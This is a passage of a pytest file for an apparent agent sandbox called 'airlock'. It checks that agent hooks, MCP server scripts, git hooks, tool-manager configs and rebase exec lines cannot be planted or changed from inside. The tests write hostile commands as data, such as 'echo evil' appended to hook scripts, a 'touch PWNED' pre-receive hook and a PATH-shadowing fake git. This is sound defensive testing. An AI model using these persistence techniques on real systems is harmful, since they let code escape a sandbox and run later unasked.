    (project / "scripts").mkdir()
    (project / "tools").mkdir()
    start, status, server = (
        project / "scripts" / "start.sh",
        home / ".claude" / "statusline-command.sh",
        project / "tools" / "server.js",
    )
    for path in (start, status, server):
        path.write_text("# as it was\n")
    (project / ".claude" / "settings.json").write_text(
        json.dumps(
            {
                "hooks": {
                    "SessionStart": [
                        {"hooks": [{"type": "command", "command": "bash scripts/start.sh"}]}
                    ]
                }
            }
        )
    )
    (home / ".claude" / "settings.json").write_text(
        json.dumps(
            {"statusLine": {"type": "command", "command": "~/.claude/statusline-command.sh"}}
        )
    )
    (project / ".mcp.json").write_text(
        json.dumps({"mcpServers": {"x": {"command": "node", "args": ["tools/server.js"]}}})
    )
    script = "".join(
        f"(echo evil >> {path}) 2>/dev/null && echo WROTE {path}; "
        for path in (start, status, server)
    )
    done = _run(tmp_path, script + "echo done")
    assert done.returncode == 0, done.stderr
    assert "done" in done.stdout and "WROTE" not in done.stdout, done.stdout
    assert all(path.read_text() == "# as it was\n" for path in (start, status, server))


def test_programs_the_other_agents_files_name_are_read_only(tmp_path: Path, project: Path) -> None:
    """What runs outside later without being asked: an MCP server of ``~/.claude.json`` (the
    user's, and the project's own) whose script is in the project, Codex's ``notify`` program
    in ``~/.codex`` (writable: the agent's state), a Gemini hook's script named by the
    project's ``.gemini/settings.json``. Each stays as it was; the rest of the project and of
    ``~/.codex`` stay writable."""
    home = tmp_path / "home"
    (home / ".codex").mkdir(parents=True, exist_ok=True)
    (project / "tools").mkdir()
    (project / ".gemini").mkdir()
    user, local, notify, hook = (
        project / "tools" / "user.js",
        project / "tools" / "local.js",
        home / ".codex" / "notify.py",
        project / "tools" / "hook.sh",
    )
    for path in (user, local, notify, hook):
        path.write_text("# as it was\n")
    (home / ".claude.json").write_text(
        json.dumps(
            {
                "mcpServers": {"u": {"command": "node", "args": [str(user)]}},
                "projects": {
                    str(project): {
                        "mcpServers": {"l": {"command": "node", "args": ["tools/local.js"]}}
                    }
                },
            }
        )
    )
    (home / ".codex" / "config.toml").write_text(f'notify = ["python3", "{notify}"]\n')
    (project / ".gemini" / "settings.json").write_text(
        json.dumps(
            {
                "hooks": {
                    "AfterAgent": [{"hooks": [{"type": "command", "command": "sh tools/hook.sh"}]}]
                }
            }
        )
    )
    script = "".join(
        f"(echo evil >> {path}) 2>/dev/null && echo WROTE {path}; "
        for path in (user, local, notify, hook)
    )
    done = _run(
        tmp_path, script + f"echo ok > tools/other && echo ok > {home}/.codex/history && echo done"
    )
    assert done.returncode == 0, done.stderr
    assert "done" in done.stdout and "WROTE" not in done.stdout, done.stdout
    assert all(path.read_text() == "# as it was\n" for path in (user, local, notify, hook))
    assert (home / ".codex" / "history").read_text() == "ok\n"


def test_programs_a_subfolders_own_settings_name_are_read_only(
    tmp_path: Path, project: Path
) -> None:
    """A package with its own ``.claude/settings.json`` (a session started in it runs its
    hooks): the script its hook names cannot be changed inside; the package's other files
    can."""
    package = project / "packages" / "app"
    (package / ".claude").mkdir(parents=True)
    (package / "scripts").mkdir()
    hook = package / "scripts" / "check.sh"
    hook.write_text("# as it was\n")
    (package / ".claude" / "settings.json").write_text(
        json.dumps({"hooks": {"Stop": [{"hooks": [{"command": "bash scripts/check.sh"}]}]}})
    )
    done = _run(
        tmp_path,
        f"(echo evil >> {hook}) 2>/dev/null && echo WROTE; "
        f"echo ok > {package}/scripts/other.sh && echo done",
    )
    assert done.returncode == 0, done.stderr
    assert "done" in done.stdout and "WROTE" not in done.stdout, done.stdout
    assert hook.read_text() == "# as it was\n"


def test_a_bare_repository_in_the_workspace_keeps_its_hooks(tmp_path: Path, project: Path) -> None:
    """A bare repository kept in the project (a local remote): its hooks (run by the user's
    next push to it) and config cannot be written inside."""
    subprocess.run(["git", "init", "-q", "--bare", str(project / "remote.git")], check=True)
    hook = project / "remote.git" / "hooks" / "pre-receive"
    done = _run(
        tmp_path,
        f"(echo 'touch PWNED' > {hook} && echo WROTE-HOOK) 2>/dev/null; "
        f"(echo '[core]' >> {project}/remote.git/config && echo WROTE-CONFIG) 2>/dev/null; "
        "echo done",
    )
    assert done.returncode == 0, done.stderr
    assert "done" in done.stdout and "WROTE" not in done.stdout, done.stdout
    assert not hook.exists()


def test_tool_managers_files_cannot_be_changed(tmp_path: Path, project: Path) -> None:
    """mise's and asdf's files at the workspace's root (their hooks, ``_.source`` and
    ``path:`` versions act in the user's shell when it enters the folder; mise trusts a
    config by its path): read-only inside when there; one made or changed in a subfolder is
    set aside after the run."""
    (project / "mise.toml").write_text("[tools]\nnode = '20'\n")
    (project / "mise.ci.toml").write_text("[tools]\n")
    (project / ".tool-versions").write_text("python 3.11.4\n")
    (project / "sub").mkdir()
    (project / "sub" / ".tool-versions").write_text("python 3.11.4\n")
    (project / "rust-toolchain.toml").write_text("[toolchain]\nchannel = 'stable'\n")
    targets = ["mise.toml", "mise.ci.toml", ".tool-versions", "rust-toolchain.toml"]
    script = "".join(
        f"(echo '[hooks]' >> {path}) 2>/dev/null && echo WROTE {path}; " for path in targets
    )
    script += (
        "echo 'python path:./evil' > sub/.tool-versions && mkdir -p other && "
        "echo '[hooks]' > other/.mise.toml && mkdir -p mise .config/mise/conf.d && "
        "echo '[hooks]' > mise/config.toml && echo '[hooks]' > .config/mise/conf.d/x.toml && "
        "echo '[hooks]' > mise.dev.toml && echo done"
    )
    done = _run(tmp_path, script)
    assert done.returncode == 0, done.stderr
    assert "done" in done.stdout and "WROTE" not in done.stdout, done.stdout
    assert (project / "mise.toml").read_text() == "[tools]\nnode = '20'\n"
    assert (project / ".tool-versions").read_text() == "python 3.11.4\n"
    assert not (project / "sub" / ".tool-versions").exists()
    assert not (project / "other" / ".mise.toml").exists()
    assert "sub/.tool-versions" in done.stderr and "other/.mise.toml" in done.stderr
    for made in ("mise/config.toml", ".config/mise/conf.d", "mise.dev.toml"):
        assert not (project / made).exists(), made  # mise trusts the folder, not the file
        assert made in done.stderr


def test_a_protected_file_with_other_names_is_named_before_the_run(
    tmp_path: Path, project: Path, home: Path
) -> None:
    """A hook hard-linked from tools/ (writable inside) and a key hard-linked into the
    workspace: the binds keep their names, not the files, so the run names each such file
    and how to find its other names, before the command runs."""
    _git(project, "init", "-q")
    (project / "tools").mkdir()
    (project / "tools" / "pre-commit").write_text("make lint\n")
    hook = project / ".git" / "hooks" / "pre-commit"
    os.link(project / "tools" / "pre-commit", hook)
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_test"
    key.write_text("PRIVATE KEY\n")
    os.link(key, project / "copy-of-key")
    done = _run(tmp_path, "true")
    assert done.returncode == 0, done.stderr
    assert f"airlock run: {hook} (runs code outside later" in done.stderr
    assert "has 1 other name (hard links): the command changes it" in done.stderr
    assert f"airlock run: {key} (credentials) has 1 other name (hard links): the command reads" in (
        done.stderr
    )
    assert f"find / -xdev -samefile {key}" in done.stderr


@pytest.mark.parametrize("line", ["exec touch ran", "x touch ran", None])
def test_a_rebase_left_with_a_command_to_run_is_set_aside(
    tmp_path: Path, project: Path, config_dir: Path, line: str | None
) -> None:
    """An interactive rebase's state made inside with an ``exec`` (or ``x``) line: `git rebase
    --continue` outside would run it, so the state is set aside whole (git then sees no rebase
    in progress); one whose list runs nothing stays where it is."""
    _git(project, "init", "-q")
    _git(
        project,
        "-c",
        "user.name=a",
        "-c",
        "user.email=a@b",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "x",
    )
    todo = line or "pick 0000000 x"
    script = (
        "mkdir -p .git/rebase-merge && cd .git/rebase-merge && "
        "echo refs/heads/main > head-name && git rev-parse HEAD > onto && "
        "git rev-parse HEAD > orig-head && touch interactive && echo 1 > msgnum && "
        f"echo 1 > end && : > done && echo '{todo}' > git-rebase-todo && echo planted"
    )
    done = _run(tmp_path, script)
    assert done.returncode == 0 and "planted" in done.stdout, done.stderr
    if line is None:
        assert (project / ".git" / "rebase-merge" / "git-rebase-todo").exists()
        return
    assert not (project / ".git" / "rebase-merge").exists()
    [run] = list((config_dir / "airlock" / "set-aside").iterdir())
    assert line in (run / "git" / "rebase-merge" / "git-rebase-todo").read_text()
    assert ".git/rebase-merge →" in done.stderr


def test_airlock_never_runs_a_git_the_command_could_have_left(
    tmp_path: Path, project: Path
) -> None:
    """An activated .venv/bin of the workspace first on PATH holds a `git` (a run left it):
    airlock reads the repository before and after the command with the system's git, not
    that one, which would run outside the sandbox."""
    _git(project, "init", "-q")
    (project / "notes.txt").write_text("x\n")
    _git(project, "add", "notes.txt")  # an index: airlock reads it before and after
    bin_folder = project / ".venv" / "bin"
    bin_folder.mkdir(parents=True)
    marker = tmp_path / "ran-outside"
    (bin_folder / "git").write_text(f'#!/bin/sh\necho "$@" >> {marker}\nexec /usr/bin/git "$@"\n')
    (bin_folder / "git").chmod(0o755)
    done = airlock(
        "run",
        "--audit-log",
        str(tmp_path / "audit.jsonl"),
        "--",
        "true",
        env={"PATH": f"{bin_folder}:{os.environ['PATH']}"},
        timeout=180,
    )
    assert done.returncode == 0, done.stderr
    assert not marker.exists(), marker.read_text()


def test_the_hosts_git_runs_in_root_without_the_loaders_variables(tmp_path: Path) -> None:
    """The git airlock runs on the host (here one named by AIRLOCK_GIT, which tells what it
    was given) starts in / and without LD_LIBRARY_PATH: an empty entry is the current folder,
    the workspace, where the command could have left a library."""
    import sys

    seen = tmp_path / "seen"
    fake = tmp_path / "git"
    fake.write_text(f'#!/bin/sh\npwd > {seen}\necho "[$LD_LIBRARY_PATH]" >> {seen}\n')
    fake.chmod(0o755)
    script = "from airlock.sandbox.repositories import run_git; run_git(['--version'])"
    subprocess.run(
        [sys.executable, "-c", script],
        check=True,
        cwd=tmp_path,
        env={**os.environ, "AIRLOCK_GIT": str(fake), "LD_LIBRARY_PATH": ":/opt/nothing"},
    )
    assert seen.read_text() == "/\n[]\n"
